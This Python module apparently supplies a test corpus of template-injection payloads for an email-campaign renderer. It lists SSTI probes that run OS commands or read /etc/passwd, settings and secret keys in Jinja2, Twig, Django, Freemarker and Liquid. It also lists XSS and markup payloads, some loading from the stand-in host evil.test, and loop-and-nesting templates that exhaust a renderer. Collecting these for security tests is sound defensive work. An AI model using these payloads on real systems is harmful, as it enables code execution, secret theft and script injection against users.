"""Template-injection payloads for tests/campaigns/test_injection_corpus.py.

Each entry is (kind, payload). kind is "ssti" (template-engine escapes and probes that try
to reach Python objects, settings or files), "html" (markup that would run script or
load something in a mail client) or "exhaustion" (loops, growth and nesting meant to
exhaust the renderer). Sources: the usual SSTI cheat sheets for Jinja2, Twig, Django,
ERB, Freemarker and Shopify Liquid, and the OWASP XSS filter evasion cheat sheet.
"""

from __future__ import annotations

SSTI = [
    "{{ self.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ config }}",
    "{{ config.items() }}",
    "{{ settings.SECRET_KEY }}",
    "{{ settings.DATABASES }}",
    "{{ SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{{ request }}",
    "{{ request.environ }}",
    "{{ request.META }}",
    "{{ contact.__dict__ }}",
    "{{ contact._meta }}",
    "{{ contact.email.__class__ }}",
    "{{ contact['__class__'] }}",
    "{{ contact.attributes.__class__.__init__.__globals__ }}",
    "{% assign x = contact.__class__ %}{{ x }}",
    "{{ contact | map: '__class__' | join: ',' }}",
    "{% liquid echo contact.__class__ %}",
    "{{ now.__class__ }}{{ brand.__init__ }}{{ workspace.objects }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}",
    "{{ ['id'] | filter('system') }}",
    "{% include '/etc/passwd' %}",
    "{% include 'footer' %}",
    "{% render 'x' %}",
    "{% render '../../config/settings.py' %}",
    "{% extends 'base.html' %}",
    "{% import os %}{{ os.system('id') }}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{7*7}}",
    "*{7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    '{{ "a" | append: "<scr" | append: "ipt>alert(1)</scr" | append: "ipt>" }}',
    '{% capture s %}<scr{% endcapture %}{{ s | append: "ipt>alert(1)</script>" }}',
    '{{ "<img src=x onerror=alert(1)>" }}',
    '{{ "javascript:alert(1)" }}',
]

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.test"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.test"><input name="p"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href="https://evil.test/">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
    '<p style="width: expression(alert(1))">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import url(https://evil.test/x.css); p { behavior: url(x.htc) }</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    '<a href="{{ contact.website }}">site</a>',
    '<a href="{{ contact.attributes.website | strip }}">site</a>',
    "<a href=\"java{{ 'script' }}:alert(1)\">x</a>",
    "<a href=\"{{ 'java' | append: 'script:alert(1)' }}\">x</a>",
    '<a href="{% if true %}javascript:alert(1){% endif %}">x</a>',
    '<img src="{{ contact.avatar }}" alt="me">',
    "</mj-text></mj-column></mj-section><mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-raw><script>alert(1)</script></mj-raw>",
    '<mj-button href="javascript:alert(1)">Go</mj-button>',
    "<mj-image src='https://x.test/i.png\" onerror=\"alert(1)' />",
    "<mj-text css-class='x\" onmouseover=\"alert(1)'>hi</mj-text>",
]

EXHAUSTION = [
    "{% for i in (1..1000000) %}x{% endfor %}",
    "{% for i in (1..1000) %}{% for j in (1..1000) %}x{% endfor %}{% endfor %}",
    "{% for a in (1..100) %}{% for b in (1..100) %}{% for c in (1..100) %}"
    "{% endfor %}{% endfor %}{% endfor %}",
    "{% tablerow i in (1..1000000) %}{{ i }}{% endtablerow %}",
    '{{ (1..100000000) | join: "," }}',
    '{% assign s = "xxxxxxxxxx" %}{% for i in (1..64) %}{% assign s = s | append: s %}'
    "{% endfor %}{{ s }}",
    "{% for i in (1..9999) %}{% capture s %}{{ s }}{{ s }}x{% endcapture %}{% endfor %}{{ s }}",
    '{% for i in (1..9999) %}{% capture t %}{{ (1..10000) | join: "," }}{% endcapture %}'
    "{% endfor %}",
    "{% for i in (1..9999) %}" + "{%if i%}{%endif%}" * 200 + "{% endfor %}",
    "{% if true %}" * 60 + "deep" + "{% endif %}" * 60,
    "{% for i in (1..50) %}" * 25 + "x" + "{% endfor %}" * 25,
    "{% capture a %}" * 40 + "x" + "{% endcapture %}" * 40,
]

PAYLOADS = (
    [("ssti", p) for p in SSTI]
    + [("html", p) for p in HTML]
    + [("exhaustion", p) for p in EXHAUSTION]
)
